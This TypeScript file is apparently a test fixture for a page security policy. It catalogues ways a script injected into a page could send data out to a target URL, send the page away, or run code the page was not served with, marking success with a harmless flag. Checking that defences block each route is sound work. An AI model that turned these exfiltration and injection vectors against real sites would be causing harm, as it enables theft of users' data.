/** What a script that got into the page would try; each runs in the page and knows nothing else. */

interface Target {
  /** Where it wants to get to. */
  readonly url: string;
  /** The same for WebRTC. */
  readonly datagrams: string;
  /** What tells it from others of its kind. */
  readonly kind: string;
}

export interface Attack {
  readonly name: string;
  readonly kind: string;
  run(target: Target): unknown;
}

declare global {
  interface Window {
    /** Set by code that must not run. */
    ranCode?: string;
  }
}

function attack(name: string, run: (target: Target) => unknown, kind = ''): Attack {
  return { name, run, kind };
}

/** The same attack in several kinds. */
function attacks(name: string, kinds: readonly string[], run: Attack['run']): Attack[] {
  return kinds.map((kind) => attack(`${name} ${kind}`, run, kind));
}

/** Ways to send something elsewhere, or to load something from there, and stay. */
export const requestAttacks: readonly Attack[] = [
  attack('fetch', ({ url }) => fetch(url)),
  attack('fetch without CORS', ({ url }) =>
    fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  ),
  attack('XMLHttpRequest', ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  }),
  attack('beacon', ({ url }) => void navigator.sendBeacon(url, 'secret')),
  attack('EventSource', ({ url }) => void new EventSource(url)),
  attack('WebSocket', ({ url }) => void new WebSocket(url.replace('http', 'ws'))),
  attack('font', ({ url }) => new FontFace('stolen', `url(${url})`).load()),
  attack('image', ({ url }) => {
    new Image().src = url;
  }),
  ...attacks('element', ['video', 'audio', 'img', 'embed', 'iframe', 'script'], (target) => {
    const element = document.createElement(target.kind) as HTMLImageElement;
    element.src = target.url;
    document.body.append(element);
  }),
  attack('object element', ({ url }) => {
    const object = document.createElement('object');
    object.data = url;
    document.body.append(object);
  }),
  attack('image in an SVG', ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  }),
  ...attacks(
    'link',
    ['stylesheet', 'preload', 'modulepreload', 'prefetch', 'preconnect', 'icon'],
    ({ url, kind }) => {
      const link = document.createElement('link');
      link.rel = kind;
      link.as = 'script';
      link.href = url;
      document.head.append(link);
    },
  ),
  attack('style property', ({ url }) => {
    document.documentElement.style.borderImageSource = `url(${url})`;
  }),
  attack('style sheet made by a script', ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url(${url}) !important }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  }),
  attack('style element', ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url})`;
    document.head.append(style);
  }),
  attack('rules for loading ahead', ({ url }) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] });
    document.head.append(rules);
  }),
  attack('import', ({ url }) => import(/* @vite-ignore */ url) as Promise<unknown>),
  attack('form', ({ url }) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    const form = document.createElement('form');
    form.method = 'post';
    form.action = url;
    form.target = 'sink';
    document.body.append(frame, form);
    form.submit();
  }),
  attack('link with a ping', ({ url }) => {
    const link = document.createElement('a');
    link.href = '#';
    link.ping = url;
    document.body.append(link);
    link.click();
  }),
  attack('window', ({ url }) => {
    if (window.open(url) === null) throw new Error('No window was opened.');
  }),
  attack('window for a link', ({ url }) => {
    const link = document.createElement('a');
    link.href = url;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  }),
  attack('WebRTC', async ({ datagrams }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  }),
];

/** Ways to go elsewhere in the page's place, with what it knows in the address. */
export const departures: readonly Attack[] = [
  attack('address', ({ url }) => void setTimeout(() => location.assign(url))),
  attack('own window', ({ url }) => void setTimeout(() => window.open(url, '_self'))),
  attack('link', ({ url }) => {
    const link = document.createElement('a');
    link.href = url;
    document.body.append(link);
    setTimeout(() => link.click());
  }),
  attack('form in the own window', ({ url }) => {
    const form = document.createElement('form');
    form.action = url;
    document.body.append(form);
    setTimeout(() => form.submit());
  }),
  attack('refresh', ({ url }) => {
    const refresh = document.createElement('meta');
    refresh.httpEquiv = 'refresh';
    refresh.content = `0; url=${url}`;
    document.head.append(refresh);
  }),
];

/** Ways to run code that the page was not served with. */
export const codeAttacks: readonly Attack[] = [
  // Out of reach of the tool that brought it here, which may evaluate.
  attack('eval', async () => {
    await new Promise((resolve) => setTimeout(resolve));
    (0, eval)('window.ranCode = "eval"');
  }),
  attack('Function', async () => {
    await new Promise((resolve) => setTimeout(resolve));
    new Function('window.ranCode = "Function"')();
  }),
  attack('timer with text', async () => {
    await new Promise((resolve) => setTimeout(resolve));
    setTimeout('window.ranCode = "timer"');
  }),
  attack('WebAssembly', async () => {
    await new Promise((resolve) => setTimeout(resolve));
    await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    window.ranCode = 'WebAssembly';
  }),
  attack('inline script', () => {
    const script = document.createElement('script');
    script.textContent = 'window.ranCode = "inline script"';
    document.body.append(script);
  }),
  ...attacks('script of', ['data:text/javascript,', 'blob:'], ({ kind }) => {
    const code = 'window.ranCode = "script element"';
    const script = document.createElement('script');
    script.src = kind === 'blob:' ? URL.createObjectURL(new Blob([code])) : kind + code;
    document.body.append(script);
  }),
  ...attacks('module of', ['data:text/javascript,', 'blob:'], ({ kind }) => {
    const code = 'window.ranCode = "module"';
    const blob = new Blob([code], { type: 'text/javascript' });
    return import(/* @vite-ignore */ kind === 'blob:' ? URL.createObjectURL(blob) : kind + code);
  }),
  attack('event handler in markup', () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="x:" onerror="window.ranCode = \'onerror\'">',
    );
  }),
  attack('event handler attribute', () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.ranCode = "onerror attribute"');
    image.src = 'x:';
    document.body.append(image);
  }),
  attack('address of script', () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (window.ranCode = "address")';
    document.body.append(link);
    link.click();
  }),
  ...attacks(
    'frame of',
    [
      'javascript:parent.postMessage("frame")',
      'data:text/html,<script>parent.postMessage("frame", "*")</script>',
    ],
    ({ kind }) => {
      const frame = document.createElement('iframe');
      frame.src = kind;
      window.addEventListener('message', ({ data }) => (window.ranCode = String(data)));
      document.body.append(frame);
    },
  ),
  attack('frame with markup', () => {
    const frame = document.createElement('iframe');
    frame.setAttribute('srcdoc', '<script>parent.ranCode = "srcdoc"</script>');
    document.body.append(frame);
  }),
  attack('frame that is written', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const page = frame.contentDocument!;
    page.write('<script>parent.ranCode = "written"</script>');
    const script = page.createElement('script');
    script.textContent = 'parent.ranCode = "script in a frame"';
    page.documentElement.append(script);
  }),
  ...attacks('worker of', ['data:text/javascript,', 'blob:', 'own file'], async ({ kind }) => {
    const code = 'postMessage("ran")';
    const ownFile = document.querySelector<HTMLScriptElement>('script[src]')!.src;
    const address =
      kind === 'blob:'
        ? URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
        : kind === 'own file'
          ? ownFile
          : kind + code;
    const worker = new Worker(address, { type: 'module' });
    await new Promise((resolve, reject) => {
      worker.onerror = () => reject(new Error('The worker was not started.'));
      worker.onmessage = resolve;
      // One that runs may say nothing; one that is refused is told of sooner.
      setTimeout(resolve, 10_000);
    });
    window.ranCode = 'worker';
  }),
  attack('service worker', async () => {
    const ownFile = document.querySelector<HTMLScriptElement>('script[src]')!.src;
    await navigator.serviceWorker.register(ownFile, { scope: '/assets/' });
    window.ranCode = 'service worker';
  }),
];
